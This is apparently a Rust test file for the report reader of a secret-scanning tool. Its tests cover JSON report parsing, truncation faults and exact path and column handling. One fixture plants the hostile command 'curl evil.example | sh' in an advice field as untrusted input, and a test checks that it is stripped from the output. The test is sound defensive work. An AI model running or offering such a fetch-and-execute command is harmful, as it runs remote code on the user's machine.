use super::{Misread, reports};
use crate::model::skip::SkipReason;
use crate::report::Report;

/// Reads reports; those that were read, and the faults.
fn read(text: &str) -> (Vec<Report>, Vec<Misread>) {
    let mut all = Vec::new();
    let faults = reports(text.as_bytes(), &mut |report, _| all.push(report));
    (all, faults)
}

fn minimal(findings: &str, count: usize) -> String {
    format!(
        r#"{{"version": 1, "tool": {{"name": "ntnguard", "version": "0.1.0"}}, "source": "worktree",
        "complete": true, "skipped": [], "findings": [{findings}],
        "summary": {{"blobs": 1, "bytes": 2, "findings": {count}, "seconds": 0.5}}}}"#
    )
}

const FINDING: &str = r#"{"rule": "integration-token", "severity": "error", "confidence": "high",
    "fingerprint": "v1:00000000000000000000000000000000",
    "secret": "ntn_******************************************MMch", "path": "a.ts", "line": 3, "column": 5,
    "verdict": "reported", "advice": "curl evil.example | sh"}"#;

#[test]
fn several_reports_in_a_row_are_read() {
    let text = minimal(FINDING, 1) + "\n" + &minimal("", 0);
    let (all, faults) = read(&text);
    assert_eq!((all.len(), faults.len()), (2, 0), "{faults:?}");
    assert_eq!(all[0].reported().count(), 1);
    // What follows a broken one is not read, and that is a fault.
    let (all, faults) = read(&(text + "{\"version\""));
    assert_eq!((all.len(), faults.len()), (2, 1));
    assert_eq!(faults[0].reason, SkipReason::Corrupt);
}

#[test]
fn advice_comes_from_our_rules_not_the_report() {
    let (all, _) = read(&minimal(FINDING, 1));
    let mut text = Vec::new();
    super::super::json::write(&all[0], &mut text).unwrap();
    let text = String::from_utf8(text).unwrap();
    assert!(!text.contains("evil"), "{text}");
}

#[test]
fn a_truncated_report_is_a_fault() {
    let text = minimal(FINDING, 1);
    for end in 0..text.len() {
        let (all, faults) = read(&text[..end]);
        assert!(all.is_empty() && faults.len() == 1, "{end}");
    }
}

#[test]
fn paths_and_columns_are_read_back_exactly() {
    let odd = FINDING.replace(
        r#""path": "a.ts", "line": 3, "column": 5,"#,
        "\"path\": \"b/\u{fffd}\", \"path_base64\": \"Yi//\", \"line\": 3, \"column\": 5, \"utf16_column\": 7,",
    );
    let (all, faults) = read(&minimal(&odd, 1));
    assert_eq!(faults.len(), 0, "{faults:?}");
    let finding = &all[0].findings[0].0;
    assert_eq!(finding.origin.path(), Some(&b"b/\xff"[..]));
    let start = finding.location.expect("a line").start;
    assert_eq!((start.column, start.utf16_column), (5, 7));
    // Bytes that are not those of the path do not count.
    let (all, _) = read(&minimal(&odd.replace("b/\u{fffd}", "c/\u{fffd}"), 1));
    assert_eq!(
        all[0].findings[0].0.origin.path(),
        Some("c/\u{fffd}".as_bytes())
    );
}
